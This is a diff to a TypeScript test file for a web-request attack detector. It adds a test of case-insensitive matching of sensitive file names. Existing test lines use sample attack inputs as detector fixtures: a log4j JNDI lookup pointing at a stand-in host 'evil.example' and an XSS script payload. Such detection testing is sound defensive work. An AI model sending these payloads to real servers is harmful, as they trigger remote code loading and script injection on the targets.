@@ -6,7 +6,8 @@ import test from 'ava';
 import { existsSync, readFileSync } from 'node:fs';
 import { gunzipSync } from 'node:zlib';
 import { inspectRequest } from '../../src/detect/web/index.js';
-import { plainTarget, webFields } from '../../src/detect/webfields.js';
+import { SENSITIVE_FILES } from '../../src/detect/web/path.js';
+import { plainTarget, SENSITIVE_LOWER_ASCII, webFields } from '../../src/detect/webfields.js';
 import { parsers } from '../../src/parsers/loglines.js';
 
 const DIR = '/work/shared/corpus/web-attacks';
@@ -47,4 +48,25 @@ test('a plain path does not hide an attack in the referer (log4j lookup, markup)
   t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: '${jndi:ldap://evil.example/a}' }).categories, ['code_injection']);
   t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: 'https://x.gov.cn/a?q=%3Cscript%3Ealert(1)%3C/script%3E' }).categories, ['xss']);
   t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: 'https://www.example.gov.cn/zwgk/2026/t1_2.html' }).categories, []);
+});
+
+test('plainTarget matches the sensitive names case-insensitively exactly as it did on the lower-cased target', (t) => {
+  t.true(SENSITIVE_LOWER_ASCII, 'the shipped names are lower-case ASCII: the case-insensitive path is the one taken');
+  const PLAIN = /^(?:\/[A-Za-z0-9_-]+)*\/(?:[A-Za-z0-9_-]+(?:\.[A-Za-z0-9]+)?)?(?:\?[A-Za-z0-9_]+=\d{0,12}(?:&[A-Za-z0-9_]+=\d{0,12})*)?$/;
+  const SENSITIVE = new RegExp(SENSITIVE_FILES.map((f) => f.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')).join('|'));
+  const before = (x: string) => x.length < 512 && PLAIN.test(x) && !SENSITIVE.test(x.toLowerCase());
+  const targets: string[] = [];
+  const cases = (w: string) => [w, w.toUpperCase(), w.replace(/^./, (c) => c.toUpperCase()), w.replace(/[a-z]/g, (c, i: number) => (i % 2 ? c.toUpperCase() : c))];
+  for (const f of SENSITIVE_FILES) for (const w of cases(f)) targets.push(`/${w}`, `/a/${w}`, `/a/${w}/b.html`, `/a/x${w}y.html`, `/a/b.html?${w.replace(/[^A-Za-z0-9_]/g, '')}=1`);
+  if (existsSync(`${DIR}/attacks.log`)) {
+    const text = readFileSync(`${DIR}/attacks.log`, 'utf8') + '\n' + gunzipSync(readFileSync(`${DIR}/benign.log.gz`)).toString('utf8');
+    for (const l of text.split('\n')) {
+      const p = parsers.nginx(l);
+      if (p?.path !== undefined) targets.push(p.path, p.path.toUpperCase());
+    }
+  } else if (process.env.CI) t.fail(`${DIR} is missing`);
+  const diffs = targets.filter((x) => plainTarget(x) !== before(x));
+  t.deepEqual(diffs.slice(0, 10), []);
+  t.true(targets.filter(before).length > 100, 'plain targets are among them');
+  t.true(targets.filter((x) => PLAIN.test(x) && !before(x)).length > 100, 'and plain-shaped ones a sensitive name keeps off the shortcut');
 });
